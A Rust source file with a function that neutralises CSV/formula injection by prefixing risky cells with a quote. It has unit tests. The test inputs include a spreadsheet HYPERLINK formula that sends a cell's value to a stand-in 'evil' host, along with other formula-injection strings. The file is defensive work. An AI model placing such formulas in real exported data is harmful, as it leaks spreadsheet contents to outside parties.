//! Values between commas, as a table of people is to read them: a cell that a table would take for a formula is text.

/// What a formula begins with, in some table: https://owasp.org/www-community/attacks/CSV_Injection (read 2026-11).
const BEGINS: [char; 11] =
    ['=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'];
/// What makes text of it.
const TEXT: char = '\'';

/// Copies lines, with each cell that could be a formula made text. A number stays one.
pub(super) fn harmless(lines: &[u8], out: &mut Vec<u8>) -> Result<(), csv::Error> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(lines);
    let mut writer = csv::Writer::from_writer(out);
    let mut record = csv::StringRecord::new();
    while reader.read_record(&mut record)? {
        for cell in &record {
            if is_formula(cell) {
                writer.write_field(format!("{TEXT}{cell}"))?;
            } else {
                writer.write_field(cell)?;
            }
        }
        writer.write_record(None::<&[u8]>)?;
    }
    writer.flush()?;
    Ok(())
}

fn is_formula(cell: &str) -> bool {
    let number = |text: &str| {
        let (whole, part) = text.split_once('.').unwrap_or((text, "0"));
        [whole, part].iter().all(|digits| !digits.is_empty() && digits.bytes().all(|it| it.is_ascii_digit()))
    };
    cell.starts_with(BEGINS) && !cell.strip_prefix(['-', '+']).is_some_and(number)
}

#[cfg(test)]
mod tests {
    use super::harmless;

    #[test]
    fn a_cell_that_begins_like_a_formula_is_text_and_everything_else_stays() {
        let check = |cell: &str, expected: &str| {
            let mut writer = csv::Writer::from_writer(Vec::new());
            writer.write_record(["first", cell, "last"]).unwrap();
            let mut out = Vec::new();
            harmless(&writer.into_inner().unwrap(), &mut out).unwrap();
            let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(&*out);
            let record = reader.records().next().unwrap().unwrap();
            assert_eq!(record.iter().collect::<Vec<_>>(), ["first", expected, "last"], "{cell:?}");
        };
        for cell in [
            "=1+1",
            "=HYPERLINK(\"http://evil/\"&A1,\"x\")",
            "+1+1",
            "-1+1",
            "-",
            "-5.",
            "-.5",
            "--5",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            "\u{ff1d}1+1",
            "=a,b",
            "=\"a\"\n",
        ] {
            check(cell, &format!("'{cell}"));
        }
        for cell in
            ["", "gpt-4o", "a=b", "-5", "-5.25", "+5", "12.5", "'=1", "two\nlines", "a \"quoted\" word"]
        {
            check(cell, cell);
        }
    }
}
